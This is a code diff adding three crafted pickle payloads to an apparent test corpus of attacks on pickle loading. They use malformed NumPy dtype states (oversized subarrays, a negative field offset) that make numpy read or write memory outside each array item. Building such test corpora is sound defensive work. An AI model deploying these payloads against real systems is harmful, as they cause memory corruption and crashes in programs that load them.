@@ -556,6 +556,37 @@ def _():
     return pk.proto(2) + reconstruct_array(dt, 1, pk.binbytes(b"\x41" * 8)) + pk.STOP
 
 
+def np_dtype_v8_state(subarray, names, fields, flags):
+    return (pk.call(pk.glob("numpy", "dtype"), pk.uni("V8"), pk.NEWFALSE, pk.NEWTRUE)
+            + pk.tup(pk.integer(3), pk.uni("|"), subarray, names, fields, pk.integer(8), pk.integer(1),
+                     pk.integer(flags)) + pk.BUILD)
+
+
+@attack("dtype_subarray_past_itemsize.pkl", "dangerous", "state",
+        "a V8 dtype state whose subarray is 100 objects: numpy takes it and reads 800 bytes "
+        "of each 8-byte item as object pointers (Python crashes)", check="loads")
+def _():
+    dt = np_dtype_v8_state(pk.tup(np_dtype("O"), pk.tup(pk.integer(100))), pk.NONE, pk.NONE, 27)
+    return pk.proto(2) + reconstruct_array(dt, 2, pk.lst(pk.NONE, pk.NONE)) + pk.STOP
+
+
+@attack("dtype_subarray_f8_past_itemsize.pkl", "dangerous", "state",
+        "a V8 dtype state whose subarray is 100 float64: numpy reads 800 bytes past each item",
+        check="loads", expect=["pickle", "pickle-py"])
+def _():
+    dt = np_dtype_v8_state(pk.tup(np_dtype("<f8"), pk.tup(pk.integer(100))), pk.NONE, pk.NONE, 0)
+    return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP
+
+
+@attack("dtype_field_negative_offset.pkl", "dangerous", "state",
+        "a dtype state whose field lies at offset -100000000: numpy takes it and reads and "
+        "writes 100 MB before each item", check="loads", expect=["pickle", "pickle-py"])
+def _():
+    dt = np_dtype_v8_state(pk.NONE, pk.tup(pk.uni("a")),
+                           pk.dct((pk.uni("a"), pk.tup(np_dtype("<f8"), pk.integer(-100000000)))), 0)
+    return pk.proto(2) + reconstruct_array(dt, 2, pk.binbytes(b"\x00" * 16)) + pk.STOP
+
+
 @attack("dtype_field_past_itemsize.pkl", "dangerous", "state",
         "a dtype state whose field lies past the itemsize (offset 4096 in a V8)",
         check="loads", expect=["pickle"])
